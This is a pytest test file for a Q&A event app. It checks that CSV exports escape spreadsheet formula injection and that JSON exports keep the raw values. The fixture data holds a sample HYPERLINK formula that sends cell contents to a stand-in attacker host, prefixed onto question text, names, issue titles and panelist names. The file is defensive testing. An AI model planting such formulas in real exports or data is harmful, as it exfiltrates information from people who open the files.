"""Exports are safe to open in a spreadsheet: no CSV cell starts a formula (OWASP CSV injection).

A question text, an author's name, an issue title and a panelist's name starting with each of
=, +, -, @, tab and carriage return come out of `GET .../export.csv` and `qa-app export` with a
single quote in front; numbers stay numbers; the JSON exports keep every value as it was.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
from flask import jsonify
from sqlalchemy import select

from qa_app import create_app, domain, storage
from qa_app.auth import find_event
from qa_app.extensions import db
from qa_app.models import Issue, Question, Speaker
from qa_app.schemas import AskIn
from tests import conftest
from tests.conftest import make_event, make_participant, moderator
from tests.live import ROOT, server_env

# what a participant can type (the API strips leading whitespace, so tab and CR come below)
TYPED = ["=", "+", "-", "@"]
# what a stored row may still hold (written by an older version or another tool)
STORED = ["\t", "\r"]
PAYLOAD = 'HYPERLINK("http://attacker.example/?"&A1,"click")'


def cell(prefix: str, what: str) -> str:
    """The dangerous value of one field for one prefix."""
    return f"{prefix}{what} {PAYLOAD}"


@pytest.fixture
def exported(tmp_path):
    """A database with one question per dangerous prefix; returns (app, url, code, key)."""
    url = f"sqlite:///{tmp_path / 'qa.db'}"
    app = create_app(conftest.test_config(url))
    storage.upgrade(app)
    placeholders = [f"placeholder {n}" for n in range(len(STORED))]
    with app.app_context():
        event, key = make_event(
            issues=[cell(p, "issue") for p in TYPED] + placeholders,
            speakers=[{"name": cell(p, "panelist")} for p in TYPED]
            + [{"name": name} for name in placeholders],
        )
        asker, _ = make_participant(event)
        for n, prefix in enumerate(TYPED + STORED):
            typed = prefix in TYPED
            domain.ask(
                asker,
                AskIn(
                    issue_id=event.issues[n].id,
                    text=cell(prefix, "text") if typed else placeholders[n - len(TYPED)],
                    author_name=cell(prefix, "name") if typed else None,
                    addressed_to=event.speakers[n].id,
                    client_id=f"c{n}",
                ),
            )
        _store_dangerous_values(event.id)
        code = event.code
    yield app, url, code, key
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def _store_dangerous_values(event_id: int) -> None:
    """Give the last issues, speakers and questions values starting with tab and CR (the API
    strips leading whitespace, so they go straight into the rows)."""
    issues = db.session.scalars(select(Issue).filter_by(event_id=event_id).order_by(Issue.position))
    speakers = db.session.scalars(select(Speaker).filter_by(event_id=event_id).order_by(Speaker.id))
    questions = db.session.scalars(
        select(Question).filter_by(event_id=event_id).order_by(Question.id)
    )
    rows = list(zip(issues, speakers, questions, strict=True))[len(TYPED) :]
    for prefix, (issue, speaker, question) in zip(STORED, rows, strict=True):
        issue.title = cell(prefix, "issue")
        speaker.name = cell(prefix, "panelist")
        question.text = cell(prefix, "text")
        question.author_name = cell(prefix, "name")
    db.session.commit()


def read_csv(text: str) -> list[dict]:
    """The rows of a CSV export (the HTTP one starts with a BOM for Excel)."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_escaped(rows: list[dict]) -> None:
    """Each dangerous cell carries a leading single quote; numbers and times are untouched."""
    prefixes = TYPED + STORED
    assert len(rows) == len(prefixes)
    for prefix, row in zip(prefixes, rows, strict=True):
        assert row["text"] == "'" + cell(prefix, "text")
        assert row["author_name"] == "'" + cell(prefix, "name")
        assert row["issue"] == "'" + cell(prefix, "issue")
        assert row["addressed_to"] == "'" + cell(prefix, "panelist")
        assert row["id"].isdigit() and row["votes"] == "0" and row["issue_position"].isdigit()
        assert row["status"] == "live" and row["created_at"][:2] == "20"
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for row in rows for value in row.values() if value.startswith(risky)]


def assert_raw(questions: list[dict]) -> None:
    """The JSON export keeps every value exactly as stored."""
    prefixes = TYPED + STORED
    assert [q["text"] for q in questions] == [cell(p, "text") for p in prefixes]
    assert [q["author_name"] for q in questions] == [cell(p, "name") for p in prefixes]
    assert [q["issue"] for q in questions] == [cell(p, "issue") for p in prefixes]
    assert [q["addressed_to"] for q in questions] == [cell(p, "panelist") for p in prefixes]


def test_http_csv_export_escapes_formulas_and_json_is_unchanged(exported):
    app, _url, code, key = exported
    client = app.test_client()
    auth = {"Authorization": f"Bearer {key}"}
    answer = client.get(f"/api/v1/events/{code}/export.csv", headers=auth)
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert_escaped(read_csv(answer.text))

    as_json = client.get(f"/api/v1/events/{code}/export.json", headers=auth)
    assert as_json.status_code == 200
    assert_raw(as_json.json["questions"])
    with app.test_request_context():  # byte for byte what jsonify makes of the rows
        event = find_event(code)
        rows = domain.export_rows(moderator(event))
        actions = domain.actions(moderator(event))
        expected = jsonify(
            {"event": event.code, "title": event.title, "questions": rows, "actions": actions}
        )
        assert as_json.data == expected.data


def qa_app_export(url: str, tmp_path, *args: str) -> str:
    """Run `python -m qa_app export ARGS` on the database at url; its standard output."""
    done = subprocess.run(
        [sys.executable, "-m", "qa_app", "export", *args],
        env=server_env(tmp_path, DATABASE_URL=url),
        cwd=ROOT,
        capture_output=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.decode("utf-8")  # no newline translation: a cell may hold a CR


def test_cli_csv_export_escapes_formulas_and_json_is_unchanged(exported, tmp_path):
    _app, url, code, _key = exported
    assert_escaped(read_csv(qa_app_export(url, tmp_path, code)))
    assert_raw(json.loads(qa_app_export(url, tmp_path, code, "--format", "json"))["questions"])
